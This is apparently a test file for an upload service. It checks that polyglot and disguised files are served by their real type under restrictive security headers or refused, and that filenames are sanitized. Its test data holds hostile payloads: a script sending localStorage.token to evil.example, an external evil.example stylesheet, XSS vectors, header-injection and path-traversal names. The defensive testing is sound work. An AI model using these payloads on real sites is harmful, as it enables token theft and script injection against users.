import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { archivoApi } from '@portal/contract/archivo';
import { useTestApp } from '@portal/testkit/app.ts';
import { pngOf } from '@portal/testkit/builders/contenido/png.ts';
import { buildSubida } from '@portal/testkit/builders/contenido/subida.ts';
import { signIn } from '@portal/testkit/builders/ingreso/sesion.ts';
import { buildUsuario } from '@portal/testkit/builders/persona/usuario.ts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const dataDir = mkdtempSync(join(tmpdir(), 'portal-hostil-'));
const test = useTestApp({ DATA_DIR: dataDir });
let token = '';
beforeAll(async () => {
  token = await signIn(test, await buildUsuario(test.db, { admin: true }));
});
afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

const PAGE = '<!doctype html><script>fetch("https://evil.example/?"+localStorage.token)</script>';
/** Begins with bytes of one kind and goes on as a page. */
const before = (...start: (string | number[])[]): Buffer =>
  Buffer.concat([...start.map((part) => Buffer.from(typeof part === 'string' ? Buffer.from(part, 'latin1') : part)), Buffer.from(PAGE)]);
const ZIP = 'PK\u0003\u0004';

const keep = async (content: Buffer, nombre: string) =>
  test.call(archivoApi.ins, { body: { subida: await buildSubida(dataDir, content), nombre }, token });

/** Keeps a file and opens it as a learner does. */
async function served(content: Buffer, nombre: string) {
  const { data } = await keep(content, nombre);
  const { data: described } = await test.call(archivoApi.sel, { params: { id: data.id_archivo }, token });
  return { nombre: data.nombre, answer: await test.inject({ url: described.url }) };
}

describe('a file of two kinds', () => {
  it.each([
    ['a page named as a PDF', before(''), 'guia.pdf', 'text/html; charset=utf-8', 'guia.html'],
    ['a page named as a picture', before('  <!-- a -->'), 'foto.png', 'text/html; charset=utf-8', 'foto.png.html'],
    ['a PDF and a page', before('%PDF-1.7\n'), 'guia.html', 'application/pdf', 'guia.pdf'],
    ['a PDF with two endings', before('%PDF-1.7\n'), 'guia.pdf.exe', 'application/pdf', 'guia.pdf.exe.pdf'],
    ['a song and a page', before('ID3\u0004'), 'tema.html', 'audio/mpeg', 'tema.mp3'],
    ['a video and a page', before('\u0000\u0000\u0000\u0018ftypmp42'), 'tema.svg', 'video/mp4', 'tema.svg.mp4'],
    ['a sound and a script', before('RIFF\u0000\u0000\u0000\u0000WAVE=1;alert(1);/*'), 'tema.js', 'audio/wav', 'tema.js.wav'],
    ['captions and a page', before('WEBVTT\n\n'), 'tema.html', 'text/vtt; charset=utf-8', 'tema.vtt'],
  ])('(%s) is served as what its first bytes are', async (...[, content, sent, type, kept]) => {
    const { nombre, answer } = await served(content, sent);
    expect([answer.statusCode, nombre, answer.headers['content-type']]).toEqual([200, kept, type]);
    expect(answer.headers['x-content-type-options']).toBe('nosniff');
    const policy = String(answer.headers['content-security-policy']);
    expect(policy).toContain("frame-ancestors 'self'");
    if (type.startsWith('text/html')) expect(policy).toMatch(/^sandbox (?!.*allow-(scripts|same-origin)).*default-src 'none'/);
  });

  it.each([
    ['a picture and an archive (GIFAR)', before('GIF89a', ZIP)],
    ['a picture and a script', before([0xff, 0xd8, 0xff, 0xe0], '*/=1;alert(1);/*')],
    ['a whole picture and a page', Buffer.concat([pngOf(8, 8), Buffer.from(PAGE)])],
    ['a drawing', Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><foreignObject/></svg>')],
    ['a page of XML', Buffer.from('<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>')],
    ['a style sheet that runs', Buffer.from('<?xml-stylesheet href="https://evil.example/x.xsl"?><a/>')],
    ['a page behind more than is looked at', Buffer.from(`<!--${'a'.repeat(5000)}-->${PAGE}`)],
    ['a page of sixteen bits', Buffer.from(`\ufeff${PAGE}`, 'utf16le')],
    ['a manifest of an application', Buffer.from('<hta:application id=a><script>alert(1)</script>')],
    ['a shortcut', Buffer.from('[InternetShortcut]\r\nURL=javascript:alert(1)')],
    ['a document with macros', Buffer.from('d0cf11e0a1b11ae1', 'hex')],
    ['nothing', Buffer.alloc(0)],
  ])('(%s) is refused', async (_what, content) => {
    const { status, problem } = await keep(content, 'video.mp4');
    expect([status, problem.code]).toEqual([415, 'tipo_no_admitido']);
  });
});

describe('a name', () => {
  const PDF = before('%PDF-1.7\n');
  it.each([
    ['that reads backwards', 'factura\u202efdp.exe', 'facturafdp.exe.pdf'],
    ['that hides its direction', '\u2067guia\u2069\u200f.pdf', 'guia.pdf'],
    ['with a NUL', 'guia.pdf\u0000.exe', undefined],
    ['of folders', '..\\..\\windows\\win.ini', '.._.._windows_win.ini.pdf'],
    ['of a header', 'a"\r\nset-cookie: x=1\r\n\r\n.pdf', 'a"_set-cookie: x=1__.pdf'],
    ['of markup', '<img src=x onerror=alert(1)>.pdf', '<img src=x onerror=alert(1)>.pdf'],
    ['of dots', '...', '....pdf'],
  ])('%s is cleaned or refused, and is one line of its header', async (_what, sent, kept) => {
    if (kept === undefined) {
      expect((await keep(PDF, sent)).status).toBe(400);
      return;
    }
    const { nombre, answer } = await served(PDF, sent);
    expect([nombre, answer.statusCode]).toEqual([kept, 200]);
    expect(answer.headers['content-disposition']).toMatch(/^inline; filename="[^"\r\n]*"; filename\*=UTF-8''[\w%.~!-]+$/);
    expect(answer.headers['set-cookie']).toBeUndefined();
  });
});
